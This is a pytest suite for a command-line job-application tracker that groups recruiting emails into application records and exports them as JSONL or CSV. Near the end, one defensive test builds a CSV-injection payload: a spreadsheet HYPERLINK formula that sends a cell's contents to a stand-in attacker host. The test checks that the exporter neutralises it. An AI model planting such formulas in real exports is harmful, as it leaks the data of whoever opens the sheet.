"""`python -m cli track`: our own labelled mailbox, one test per matching rule; the CLI's contract."""

from __future__ import annotations

import csv
import json
import random
from email.message import EmailMessage as MimeMessage
from email.utils import format_datetime
from pathlib import Path

import pytest

from cli.__main__ import main
from cli.track import TRACK_USER, write_output
from tests.builders import an_email, application_email, day
from tracker.memory_store import MemoryApplicationStore
from tracker.recording import record_email
from tracker.sheet_layout import inert_in_a_spreadsheet

ME = "sam.lee@example.com"


def mail(
    msg_id: str,
    on: int,
    sender: str,
    subject: str,
    body: str,
) -> dict:
    return {"id": msg_id, "from": sender, "date": day(on).isoformat(), "subject": subject, "body": body}


def confirmation(msg_id, on, company, title, sender=None):
    return mail(
        msg_id,
        on,
        sender or f"{company} Careers <careers@{company.split()[0].lower()}.example>",
        f"Thank you for applying to {company}",
        f"Hi Sam,\n\nThank you for applying for the {title} position at {company}. "
        "We've received your application; the team will look it over.\n\nBest,\n"
        f"{company} Recruiting",
    )


def linkedin_confirmation(msg_id, on, company, title):
    return mail(
        msg_id,
        on,
        "LinkedIn <jobs-noreply@linkedin.com>",
        f"Sam, your application was sent to {company}",
        f"Your application was sent to {company}\n\n{title}\n{company} · Berlin, Germany (Hybrid)\n\n"
        "Applied on LinkedIn",
    )


def rejection(msg_id, on, company, title=None):
    role = f"the {title} position" if title else "the position"
    return mail(
        msg_id,
        on,
        f"{company} Talent <talent@{company.split()[0].lower()}.example>",
        "Your application",
        f"Dear Sam,\n\nThank you for your interest in {role} at {company}. Unfortunately, we have decided "
        "to continue with other candidates whose background is a closer match for what we need.\n\n"
        f"Kind regards,\n{company} Talent Team",
    )


def interview(msg_id, on, company, title):
    return mail(
        msg_id,
        on,
        f"{company} Recruiting <recruiting@{company.split()[0].lower()}.example>",
        f"Interview invitation: {title}",
        f"Hi Sam,\n\nWe would like to invite you to an interview for the {title} role at {company}. "
        "Please pick a time for a 45-minute video call with the hiring manager using the link below.\n\n"
        f"Thanks,\n{company} Recruiting",
    )


def job_alert(msg_id, on):
    return mail(
        msg_id,
        on,
        "Job Alerts <alerts@jobboard.example>",
        "10 new jobs for 'data engineer' - apply now",
        "Jobs you may be interested in:\nData Engineer at Globex - Apply now\n"
        "Senior Data Engineer at Initech - Easy apply\nPrepare for your interview with our free guide.",
    )


def write_jsonl(path: Path, records: list[dict]) -> Path:
    path.write_text("".join(json.dumps(record) + "\n" for record in records))
    return path


def track(tmp_path: Path, records: list[dict], name: str = "out.jsonl") -> tuple[int, list[dict]]:
    source = write_jsonl(tmp_path / "in.jsonl", records)
    output = tmp_path / name
    code = main(["track", str(source), "--output", str(output)])
    return code, [json.loads(line) for line in output.read_text().splitlines()]


def grouped(applications: list[dict]) -> set[frozenset[str]]:
    return {frozenset(application["emails"]) for application in applications}


def test_ats_and_linkedin_confirmations_of_one_job_make_one_application(tmp_path):
    code, applications = track(
        tmp_path,
        [
            confirmation("ats", 1, "Northwind Robotics", "Data Engineer"),
            linkedin_confirmation("li", 1, "Northwind Robotics", "Data Engineer"),
        ],
    )
    assert code == 0
    assert grouped(applications) == {frozenset({"ats", "li"})}


def test_rejection_without_title_joins_the_only_open_application_at_that_employer(tmp_path):
    _, applications = track(
        tmp_path,
        [
            confirmation("a1", 1, "Northwind Robotics", "Data Engineer"),
            rejection("r", 30, "Northwind Robotics"),
        ],
    )
    assert [(a["job_title"], a["status"], a["emails"]) for a in applications] == [
        ("Data Engineer", "rejected", ["a1", "r"])
    ]


def test_rejection_without_title_while_two_applications_are_open_is_its_own_record_for_review(tmp_path):
    _, applications = track(
        tmp_path,
        [
            confirmation("a1", 1, "Northwind Robotics", "Data Engineer"),
            confirmation("a2", 20, "Northwind Robotics", "Platform Engineer"),
            rejection("r", 30, "Northwind Robotics"),
        ],
    )
    by_title = {a["job_title"]: (a["status"], a["emails"], bool(a["needs_review"])) for a in applications}
    assert by_title == {
        "Data Engineer": ("applied", ["a1"], False),
        "Platform Engineer": ("applied", ["a2"], False),
        None: ("rejected", ["r"], True),
    }


def test_two_roles_at_one_employer_stay_two(tmp_path):
    _, applications = track(
        tmp_path,
        [
            confirmation("a1", 1, "Northwind Robotics", "Data Engineer"),
            confirmation("a2", 2, "Northwind Robotics", "Product Analyst"),
        ],
    )
    assert len(applications) == 2


def test_look_alike_employers_stay_apart(tmp_path):
    _, applications = track(
        tmp_path,
        [confirmation("a1", 1, "Avail", "Data Analyst"), rejection("r", 9, "Avra", "Data Analyst")],
    )
    assert sorted((a["company"], a["status"]) for a in applications) == [
        ("Avail", "applied"),
        ("Avra", "rejected"),
    ]


def test_a_new_application_after_a_rejection_for_the_same_role_is_a_new_record(tmp_path):
    _, applications = track(
        tmp_path,
        [
            confirmation("first", 1, "Northwind Robotics", "Data Engineer"),
            rejection("no", 12, "Northwind Robotics", "Data Engineer"),
            confirmation("again", 90, "Northwind Robotics", "Data Engineer"),
        ],
    )
    assert sorted((a["status"], tuple(a["emails"])) for a in applications) == [
        ("applied", ("again",)),
        ("rejected", ("first", "no")),
    ]


def test_the_same_email_twice_is_one_event(tmp_path):
    email = confirmation("once", 1, "Northwind Robotics", "Data Engineer")
    _, applications = track(tmp_path, [email, dict(email)])
    (application,) = applications
    assert application["emails"] == ["once"] and len(application["events"]) == 1


def test_shuffled_input_gives_the_same_result(tmp_path):
    mailbox = [
        confirmation("n1", 1, "Northwind Robotics", "Data Engineer"),
        job_alert("alert", 2),
        confirmation("g1", 3, "Globex", "Analytics Engineer"),
        interview("n2", 8, "Northwind Robotics", "Data Engineer"),
        rejection("g2", 15, "Globex"),
        confirmation("i1", 16, "Initech", "Backend Engineer"),
        rejection("n3", 25, "Northwind Robotics", "Data Engineer"),
    ]

    def answer(records):
        _, applications = track(tmp_path, records)
        return sorted((a["company"], a["job_title"], a["status"], tuple(a["emails"])) for a in applications)

    expected = answer(mailbox)
    assert expected == [
        ("Globex", "Analytics Engineer", "rejected", ("g1", "g2")),
        ("Initech", "Backend Engineer", "applied", ("i1",)),
        ("Northwind Robotics", "Data Engineer", "rejected", ("n1", "n2", "n3")),
    ]
    for seed in range(5):
        shuffled = mailbox[:]
        random.Random(seed).shuffle(shuffled)
        assert answer(shuffled) == expected


def test_job_alerts_make_no_application(tmp_path):
    code, applications = track(tmp_path, [job_alert("alert", 1)])
    assert code == 0 and applications == []


def test_bad_line_is_reported_with_its_position_and_the_rest_goes_on(tmp_path, capsys):
    source = tmp_path / "in.jsonl"
    good = json.dumps(confirmation("a1", 1, "Northwind Robotics", "Data Engineer"))
    source.write_text(good + "\n{broken json\n" + json.dumps([1, 2]) + "\n")
    output = tmp_path / "out.jsonl"
    code = main(["track", str(source), "--output", str(output)])
    assert code == 1
    err = capsys.readouterr().err
    assert "line 2" in err and "line 3" in err and "unreadable messages: 2" in err
    assert len(output.read_text().splitlines()) == 1


def test_csv_output_has_the_sheet_columns_and_the_review_flag(tmp_path):
    code, _ = track(tmp_path, [confirmation("a1", 1, "Northwind Robotics", "Data Engineer")])
    assert code == 0
    source = tmp_path / "in.jsonl"
    output = tmp_path / "sheet.csv"
    assert main(["track", str(source), "--output", str(output)]) == 0
    with output.open() as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == [
        "Company", "Job title", "Status", "Applied", "Last update", "Source email link", "Tags", "Notes",
        "Ghosted", "Needs review",
    ]  # fmt: skip
    assert rows[1][:4] == ["Northwind Robotics", "Data Engineer", "applied", day(1).date().isoformat()]
    assert rows[1][6:] == ["", "", f"no reply since {day(1).date().isoformat()}", ""]  # ghosted as of the run


def test_a_record_the_tracker_is_unsure_of_says_why(tmp_path):
    unknown_employer = {
        **confirmation("a1", 1, "Northwind Robotics", "Data Engineer"),
        "body": "",
        "from": "",
    }
    unknown_employer["subject"] = "Thank you for applying for Data Engineer"
    code, applications = track(tmp_path, [unknown_employer])
    assert code == 0
    assert applications[0]["needs_review"] == "the email names no employer"


def test_nothing_is_written_when_the_output_can_not_be_made(tmp_path, capsys):
    source = write_jsonl(tmp_path / "in.jsonl", [confirmation("a1", 1, "Acme", "Engineer")])
    assert main(["track", str(source), "--output", str(tmp_path / "missing" / "out.jsonl")]) == 2
    assert "output folder does not exist" in capsys.readouterr().err


def test_missing_input_is_a_usage_error(tmp_path, capsys):
    assert main(["track", str(tmp_path / "nope.mbox")]) == 2
    assert "no such input" in capsys.readouterr().err


def test_since_skips_older_mail(tmp_path, capsys):
    source = write_jsonl(
        tmp_path / "in.jsonl",
        [confirmation("old", 1, "Acme", "Engineer"), confirmation("new", 40, "Globex", "Analyst")],
    )
    output = tmp_path / "out.jsonl"
    assert main(["track", str(source), "--output", str(output), "--since", day(20).date().isoformat()]) == 0
    (application,) = [json.loads(line) for line in output.read_text().splitlines()]
    assert application["emails"] == ["new"]


def eml(msg_id: str, on: int, record: dict, references: str | None = None) -> bytes:
    message = MimeMessage()
    message["From"] = record["from"]
    message["To"] = ME
    message["Subject"] = record["subject"]
    message["Date"] = format_datetime(day(on))
    message["Message-ID"] = f"<{msg_id}@mail.example>"
    if references:
        message["In-Reply-To"] = message["References"] = f"<{references}@mail.example>"
    message.set_content(record["body"])
    return bytes(message)


def test_mbox_and_eml_folder_give_the_same_answer_and_use_message_ids(tmp_path):
    records = [
        ("c1", 1, confirmation("x", 1, "Northwind Robotics", "Data Engineer"), None),
        ("i1", 6, interview("x", 6, "Northwind Robotics", "Data Engineer"), "c1"),
        ("alert", 7, job_alert("x", 7), None),
    ]
    folder = tmp_path / "eml"
    folder.mkdir()
    with (tmp_path / "box.mbox").open("wb") as mbox:
        for msg_id, on, record, refs in records:
            raw = eml(msg_id, on, record, refs)
            (folder / f"{msg_id}.eml").write_bytes(raw)
            mbox.write(
                b"From sender@example.com Thu Jan  1 00:00:00 2026\n"
                + raw.replace(b"\nFrom ", b"\n>From ")
                + b"\n"
            )
    answers = []
    for source in (tmp_path / "box.mbox", folder):
        output = tmp_path / f"{source.name}.jsonl"
        assert main(["track", str(source), "--output", str(output)]) == 0
        answers.append([json.loads(line) for line in output.read_text().splitlines()])
    assert answers[0] == answers[1]
    (application,) = answers[0]
    assert application["emails"] == ["c1@mail.example", "i1@mail.example"]
    assert application["status"] == "interview"


@pytest.mark.parametrize(
    "date_text", ["Mon, 02 Mar 2026 09:00:00 +0000", "2026-03-02T09:00:00Z", "2026-03-02 09:00:00"]
)
def test_dates_in_every_accepted_format_order_the_timeline(tmp_path, date_text):
    early = confirmation("early", 0, "Northwind Robotics", "Data Engineer") | {"date": date_text}
    late = interview("late", 9, "Northwind Robotics", "Data Engineer")
    _, applications = track(tmp_path, [late, early])
    (application,) = applications
    assert application["emails"] == ["early", "late"]


def test_a_message_over_the_reading_budget_is_reported_and_counted_as_skipped(tmp_path, capsys):
    folder = tmp_path / "eml"
    folder.mkdir()
    record = confirmation("a1", 1, "Northwind Robotics", "Data Engineer")
    (folder / "a1.eml").write_bytes(eml("a1", 1, record))
    (folder / "b2.eml").write_bytes(b"Received: from relay.example\r\n" * 5_000 + b"\r\n")

    code = main(["track", str(folder), "--output", str(tmp_path / "out.jsonl")])

    err = capsys.readouterr().err
    assert code == 1
    assert "b2.eml: over the reading budget" in err
    assert "messages skipped over the reading budget: 1" in err
    assert len((tmp_path / "out.jsonl").read_text().splitlines()) == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path, start):
    """CSV injection: text from an email, opened in a spreadsheet, must not run as a formula."""
    formula = start + 'HYPERLINK("https://evil.example/?"&A1,"Open")'
    store = MemoryApplicationStore()
    store.in_transaction(
        TRACK_USER,
        lambda tx: record_email(tx, an_email(on=1), application_email("applied", formula, "Analyst"), day(1)),
    )
    output = tmp_path / "sheet.csv"

    write_output(store, output)

    with output.open(newline="") as handle:
        (_, row) = list(csv.reader(handle))
    assert row[0] == "'" + formula and row[1] == "Analyst"
    assert inert_in_a_spreadsheet("Acme -") == "Acme -" and inert_in_a_spreadsheet("") == ""
